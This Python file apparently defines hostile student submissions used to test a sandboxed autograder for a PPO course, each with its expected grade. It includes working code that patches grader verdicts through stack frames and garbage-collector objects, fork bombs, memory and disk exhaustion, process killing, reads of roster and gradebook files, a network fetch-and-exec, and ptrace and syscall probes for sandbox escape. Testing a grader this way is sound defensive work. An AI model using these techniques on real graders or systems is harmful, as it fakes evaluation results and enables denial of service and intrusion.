"""Submissions of students who would rather have points than solve: what they do, and what they get for it.

Each one leaves the clipped loss unsolved, unless it only wants to do harm, and solves the other two parts. An
attack that would earn the points where a check runs in the student's own process says so in `fools`: a cell
that passes there.
"""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import dataclass
from pathlib import Path

from watching import mark

from ppobook.teaching import checks

LOSS, TABLE, WEIGHTS = "clipped-loss", "clip-table-up", "ratio-one"
WORTH = {LOSS: 4.0, TABLE: 2.0, WEIGHTS: 2.0}


def with_checks() -> str:
    """A cell that brings the checks of the chapter, which a sandbox hides, to where it runs."""
    here = Path(checks.__file__).parent
    files = {
        str(path.relative_to(here)): path.read_text(encoding="utf-8")
        for path in (*here.glob("*.*"), *(here / "clipped_surrogate").glob("*.*"))
        if path.suffix in (".py", ".toml")
    }
    return f"""
import pathlib
from ppobook.teaching import checks
place = pathlib.Path("/tmp/checks")
(place / "clipped_surrogate").mkdir(parents=True)
for name, text in {files!r}.items():
    (place / name).write_text(text)
checks.__file__, checks.COMMON = str(place / "__init__.py"), place / "common.toml"
checks.__path__.append(str(place))
checks.names.cache_clear()
"""


@dataclass(frozen=True)
class Knows:
    """Facts an attack may know: where the course lies, a server that would tell, and the grader's process.

    ``replay`` are weights that know by heart what the public check asks for.
    """

    course: Path
    port: int
    process: int
    replay: str

    @property
    def mark(self) -> str:
        """The name of a file that a submission tries to leave wherever it can."""
        return mark(self.course)


@dataclass(frozen=True)
class Attack:
    """One hostile submission, and its expected grade.

    Attributes
    ----------
    loss : str or None
        The source of the clipped loss, as a function of `*given`; None is the right answer.
    replays : bool
        Whether the weights are those that were seen.
    before : str
        A cell of the student's own that runs first.
    fools : str
        A cell that tests in the student's own process, and that this attack passes.
    verdicts : mapping
        The kind of verdict on each part that is not right.
    says : tuple of str
        How what stands in the record begins, as patterns: what was left behind, then errors of cells.
    """

    loss: str | None = None
    replays: bool = False
    before: str = ""
    fools: str = ""
    verdicts: Mapping[str, str] | None = None
    says: tuple[str, ...] = ()

    @property
    def points(self) -> dict[str, float]:
        """The points that each part earns."""
        return {part: 0 if part in (self.verdicts or {}) else WORTH[part] for part in WORTH}


def function(body: str) -> str:
    """The clipped loss, in whichever order its arguments come."""
    lines = "\n".join(f"    {line}" for line in body.strip().splitlines())
    return f"def clipped_loss(*given):\n{lines}"


# No loss at all, with a gradient: only a check that was tampered with takes it.
NO_LOSS = "0 * sum(map(torch.sum, filter(torch.is_tensor, given)))"
GUESS = function(f"return {NO_LOSS}")

# --- what a test in the student's process would be: the book's check, and three of a teacher's own
CHECK = "from ppobook.teaching import checks\nassert checks.run('clipped-loss', clipped_loss).right"
REPLAYED = "from ppobook.teaching import checks\nassert checks.run('ratio-one', gradient_weights).right"

REACHED = "class Reached(Exception): pass\n"

# What every one of them knows, and that each tries to leave a file behind.
FIRST = """
import gc, glob, os, sys, time
import numpy as np, torch
COURSE, PORT, PROCESS = {course!r}, {port}, {process}
for place in (COURSE, COURSE + "/graded", COURSE + "/..", {home!r}, "/tmp", "/var/tmp", "/dev/shm", "."):
    try: open(place + "/{mark}", "w").write("I was here")
    except OSError: pass
"""

# An answer that is written by hand.
FORGING = """
def answer(node):
    side = next(thing for thing in gc.get_objects() if type(thing).__name__ == "Worker")
    side.send(b"=", [node, [], None])
"""

WRONG = {LOSS: "mistake"}
RAISED = {LOSS: "raised"}
ENDED = {LOSS: "ended"}

ATTACKS: dict[str, Attack] = {
    "frames": Attack(
        function(f"""
frame = sys._getframe()
while frame:
    if "_verdict" in frame.f_globals and "Verdict" in frame.f_globals:
        right = frame.f_globals["Verdict"]("right", "", "")
        frame.f_globals["_verdict"], frame.f_globals["replace"] = lambda *a: right, lambda found, **k: found
    frame = frame.f_back
return {NO_LOSS}
"""),
        fools=CHECK,
        verdicts=WRONG,
    ),
    "gc": Attack(
        GUESS,
        before="""
import ppobook.teaching.checks.clipped_surrogate.losses
for thing in gc.get_objects():
    kind = type(thing).__name__
    if kind == "_Entry":
        object.__setattr__(thing, "function", lambda answer: iter(()))
    if kind in ("PartResult", "Verdict", "Result", "TestedPart"):
        vars(thing).update(points=4.0, kind="right")
""",
        fools=CHECK,
        verdicts=WRONG,
        says=("cell 2: ModuleNotFoundError",),
    ),
    "replay": Attack(
        replays=True,
        fools=REPLAYED,
        verdicts={WEIGHTS: "raised"},
    ),
    "kernel": Attack(
        function("os.kill(os.getpid(), 9)"),
        before="os.kill(os.getppid() or 1, 9); os.kill(1, 9); os.kill(os.getpid(), 9)",
        verdicts=ENDED,
        says=("cell 2: Ended",),
    ),
    "forged-message": Attack(
        FORGING + function("answer(['dict', None, [[k * (2**61 - 1), 0] for k in range(1, 10**5)]])"),
        verdicts=ENDED,
    ),
    "forks": Attack(
        GUESS,
        before="while True: os.fork()",
        verdicts=WRONG,
        says=("cell 2: (BlockingIOError|TooSlow|Ended)",),
    ),
    "memory": Attack(
        function("return torch.ones(10**12)"),
        before="""
for _ in range(9):
    if os.fork() == 0:
        a = np.ones(2**25)
        time.sleep(99)
time.sleep(99)
""",
        verdicts=RAISED,
        says=("cell 2: (Ended|TooSlow)",),  # the clock may ring before a busy machine has the memory filled
    ),
    "disk": Attack(
        function("open('y', 'w').write('x' * 2**26)"),
        before="for n in range(99): open(f'x{n}', 'w').write('x' * 2**22)",
        verdicts=RAISED,
        says=("cell 2: OSError",),
    ),
    "endless": Attack(
        function("while True:\n    try: time.sleep(1)\n    except BaseException: pass"),
        before="while True: pass",
        verdicts={LOSS: "slow"},
        says=("cell 2: TooSlow",),
    ),
    "gradebook": Attack(
        GUESS,
        before=REACHED
        + """
found = [name for name in os.listdir("/") if name == COURSE.split("/")[1] and os.path.exists(COURSE)]
for path in ("/graded/week-03/honest-1.json", "/course.yml", "/roster.csv", "/log.jsonl"):
    try: found.append(open(COURSE + path, "rb").read())
    except OSError: pass
if found: raise Reached(found)
os.makedirs(COURSE + "/marks/week-03")  # in the sandbox: the course outside stays as it was
""",
        verdicts=WRONG,
    ),
    "network": Attack(
        function("""
import socket, urllib.request
for address in (("127.0.0.1", PORT), ("1.1.1.1", 53)):
    try: socket.create_connection(address, 1).sendall(b"GET / HTTP/1.0")
    except OSError: pass
try: socket.socket(socket.AF_UNIX).connect(chr(0) + f"hostile-{PORT}")
except OSError: pass
exec(urllib.request.urlopen(f"http://127.0.0.1:{PORT}/", timeout=1).read(), globals())
return clipped_loss(*given)
"""),
        verdicts=RAISED,
    ),
    "ptrace": Attack(
        GUESS,
        before=REACHED
        + """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
def reach(process):
    if os.path.exists(f"/proc/{process}/ns/pid"):
        try: inside = os.readlink(f"/proc/{process}/ns/pid") == os.readlink("/proc/self/ns/pid")
        except OSError: inside = False
        if not inside: raise Reached(process)
    elif libc.ptrace(16, process, 0, 0) == 0: raise Reached(process)
for process in ("1", "2"):
    if os.path.exists("/proc/" + process) and "Seccomp:\\t2" not in open(f"/proc/{process}/status").read():
        raise Reached(process)
for process in {PROCESS, *map(int, filter(str.isdigit, os.listdir("/proc")))}: reach(process)
for number in (101, 165, 272, 308, 321):  # ptrace, mount, unshare, setns, bpf
    if libc.syscall(number, 0x10000000, PROCESS, 0, 0, 0) == 0: raise Reached(number)
""",
        verdicts=WRONG,
    ),
}
